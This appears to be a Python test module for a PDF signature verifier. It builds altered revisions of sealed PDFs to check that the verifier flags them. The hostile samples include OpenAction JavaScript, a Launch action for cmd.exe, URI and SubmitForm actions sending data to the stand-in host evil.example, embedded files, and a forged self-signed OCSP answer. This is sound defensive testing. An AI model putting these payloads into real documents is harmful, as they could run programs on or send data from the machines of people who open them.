"""What acts by itself or lies beside the pages: scripts, actions, files inside, metadata, the viewer's settings, DSS."""

from pikepdf import Array, Dictionary, Name, String

from tests.signing import authority, workshop
from tests.signing.hostile import CHANGED, INTACT, TOUCHED, attack
from tests.signing.hostile.pages import RED, staged
from tests.signing.revisions import append, revise, root_of

EITHER = ("invalid", "look")


def on_root(key, make):
    """Sets an entry of the catalog."""

    def change(document):
        value, touched = make(document), []
        if getattr(value, "is_indirect", False):
            touched.append(value)
        document.Root[key] = value
        return [document.Root, *touched]

    return change


def on_page(key, make):
    """Sets an entry of the first page."""

    def change(document):
        page = document.pages[0].obj
        page[key] = make(document)
        return [page]

    return change


def _action(**entries):
    return lambda _: Dictionary(**entries)


SCRIPT = {"S": Name.JavaScript, "JS": String("this.getField('so').value = '99';")}


@attack("actions", CHANGED)
def actions():
    for title, change in (
        ("script on opening", on_root("/OpenAction", _action(**SCRIPT))),
        ("page on opening", on_root("/OpenAction", lambda d: Array([d.pages[0].obj, Name.Fit]))),
        ("program on opening", on_root("/OpenAction", _action(S=Name.Launch, F=String("cmd.exe")))),
        ("address on opening", on_root("/OpenAction", _action(S=Name.URI, URI=String("http://evil.example")))),
        ("form sent on opening", on_root("/OpenAction", _action(S=Name.SubmitForm, F=String("http://evil.example")))),
        ("fields hidden on opening", on_root("/OpenAction", _action(S=Name.Hide, T=String("so")))),
        ("document's own", on_root("/AA", lambda _: Dictionary(WP=Dictionary(**SCRIPT)))),
        ("page's own", on_page("/AA", lambda _: Dictionary(O=Dictionary(**SCRIPT)))),
        ("named scripts", on_root("/Names", lambda _: Dictionary(JavaScript=Dictionary(Names=[String("a"), Dictionary(**SCRIPT)])))),
        ("other file on opening", on_root("/OpenAction", _action(S=Name.GoToR, F=String("a.pdf"), D=String("x")))),
    ):  # fmt: skip
        yield title, revise(workshop.sealed(), change)
    for stage, pdf in staged(on_root("/OpenAction", _action(**SCRIPT))):
        if stage.startswith("between"):
            yield f"script {stage}", pdf


def _file(document):
    stream = document.make_stream(b"noi dung khac", Type=Name.EmbeddedFile)
    return Dictionary(
        Type=Name.Filespec, F=String("that.pdf"), UF=String("that.pdf"), EF=Dictionary(F=stream)
    ), stream


def _embedded(document):
    specification, stream = _file(document)
    document.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=[String("that.pdf"), specification]))
    return [document.Root, stream]


def _associated(document):
    specification, stream = _file(document)
    document.Root.AF = Array([specification])
    return [document.Root, stream]


def _portfolio(document):
    touched = _embedded(document)
    document.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D, D=String("that.pdf"))
    return touched


@attack("files put inside", CHANGED)
def files_inside():
    for name, change in (("embedded", _embedded), ("associated", _associated), ("portfolio", _portfolio)):
        for stage, pdf in staged(change):
            yield f"{name} {stage}", pdf


def _information(document):
    item = document.trailer.Info if "/Info" in document.trailer else document.make_indirect(Dictionary())
    item.Title, item.Author = String("Công văn số 99"), String("Người khác")
    return [item]


def _described(document):
    words = b"<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta xmlns:x='adobe:ns:meta/'>So 99</x:xmpmeta>"
    packet = document.make_stream(words, Type=Name.Metadata, Subtype=Name.XML)
    document.Root.Metadata = packet
    return [document.Root, packet]


def _packet_is_page(document):
    page = document.pages[0].obj
    content = page.Contents[0] if isinstance(page.Contents, Array) else page.Contents
    document.Root.Metadata = content
    content.write(RED)
    return [document.Root, content]


@attack("metadata", TOUCHED | INTACT, EITHER)
def metadata():
    """Harmless to the page, yet not what was sealed: nobody accepts it unseen."""
    pdf = workshop.sealed()
    with_information = append(pdf, {9300: b"<< /Title (Cong van so 99) >>"}, extra=b"/Info 9300 0 R ")
    yield "title and author", with_information
    yield "described anew", revise(pdf, _described)
    yield "description is the page", revise(pdf, _packet_is_page)
    yield "information is the page", append(pdf, {9301: b"<< /Type /Page >>"}, extra=b"/Info 9301 0 R ")
    yield "identity", append(pdf, {9302: b"<< >>"}, extra=b"/ID [<00><00>] ")
    yield (
        "encryption claimed",
        append(
            pdf, {9303: b"<< /Filter /Standard /V 1 /R 2 /O () /U () /P -4 >>"}, extra=b"/Encrypt 9303 0 R "
        ),
    )


def _value(value):
    return lambda _: value


@attack("viewer's settings", CHANGED)
def viewer():
    for title, change in (
        ("labels", on_root("/PageLabels", _value(Dictionary(Nums=[0, Dictionary(P=String("Trang 99"))])))),
        ("outline", on_root("/Outlines", lambda d: d.make_indirect(Dictionary(Type=Name.Outlines, Count=0)))),
        ("preferences", on_root("/ViewerPreferences", _value(Dictionary(HideToolbar=True, DisplayDocTitle=True)))),
        ("full screen", on_root("/PageMode", _value(Name.FullScreen))), ("language", on_root("/Lang", _value(String("xx")))),
        ("destinations", on_root("/Dests", _value(Dictionary(a=Array([0, Name.Fit]))))),
        ("reading for the blind", on_root("/StructTreeRoot", lambda d: d.make_indirect(Dictionary(Type=Name.StructTreeRoot)))),
        ("base address", on_root("/URI", _value(Dictionary(Base=String("http://evil.example"))))),
        ("output intent", on_root("/OutputIntents", _value(Array([Dictionary(S=Name.GTS_PDFA1)])))),
        ("permissions", on_root("/Perms", _value(Dictionary(DocMDP=Dictionary())))),
        ("reader requirements", on_root("/Requirements", _value(Array([Dictionary(S=Name.EnableJavaScripts)])))),
    ):  # fmt: skip
        yield title, revise(workshop.sealed(), change), {"integrity": TOUCHED}
    yield (
        "version",
        revise(workshop.sealed(), on_root("/Version", _value(Name("/1.4")))),
        {"integrity": TOUCHED | INTACT, "verdicts": set(EITHER)},
    )


def _security(document, **entries):
    document.Root.DSS = document.make_indirect(Dictionary(Type=Name.DSS, **entries))
    return [document.Root, document.Root.DSS]


def _forged_answers(document):
    """The revoked leader brings an answer that clears him, signed by himself."""
    leader = authority.usual().leader
    forged = document.make_stream(authority.answer(leader, leader))
    return [*_security(document, OCSPs=Array([forged])), forged]


def _page_in_store(document):
    return _security(document, Certs=Array([document.pages[0].obj]), CRLs=Array([document.Root]))


def _content_in_store(document):
    page = document.pages[0].obj
    content = page.Contents[0] if isinstance(page.Contents, Array) else page.Contents
    content.write(RED)
    return [*_security(document, Certs=Array([content])), content]


def _store_with_more(document):
    return _security(document, JS=Dictionary(**SCRIPT), AA=Dictionary(**SCRIPT))


def _store_beside(document):
    touched = _security(document, Certs=Array([]))
    document.Root.OpenAction = Dictionary(**SCRIPT)
    return touched


def _rubbish(document):
    junk = document.make_stream(b"\x30\x80junk")
    return [
        *_security(document, Certs=Array([junk]), CRLs=Array([junk]), OCSPs=Array([junk]), VRI=Dictionary()),
        junk,
    ]


@attack("document security store", TOUCHED | INTACT, EITHER)
def security_store():
    pdf = workshop.sealed()
    for name, change in (
        ("page in it", _page_in_store), ("content changed as a certificate", _content_in_store),
        ("scripts in it", _store_with_more), ("script beside it", _store_beside),
    ):  # fmt: skip
        yield name, revise(pdf, change), {"integrity": TOUCHED, "verdicts": {"invalid"}}
    cast = authority.usual()
    revoked = workshop.trusted().__class__(
        (cast.root.der,),
        (cast.issuer.der,),
        crls=cast.lists([(cast.leader.serial, cast.moment - authority.YEAR / 9)]),
    )
    unlisted = revoked.__class__((cast.root.der,), (cast.issuer.der,))
    yield "answer forged, list says revoked", revise(pdf, _forged_answers), {"trust": revoked}
    yield (
        "answer forged, no list",
        revise(pdf, _forged_answers),
        {"trust": unlisted, "verdicts": {"unchecked", "look", "invalid"}},
    )
    yield (
        "rubbish, no list",
        revise(pdf, _rubbish),
        {"trust": unlisted, "verdicts": {"unchecked", "look", "invalid"}},
    )
    stored = revise(pdf, _rubbish)
    yield (
        "store taken out again",
        append(stored, {9400: b"<< >>"}, root=root_of(stored)),
        {"integrity": TOUCHED | INTACT},
    )
    yield "store replaced by the page", revise(stored, on_root("/DSS", lambda d: d.pages[0].obj))
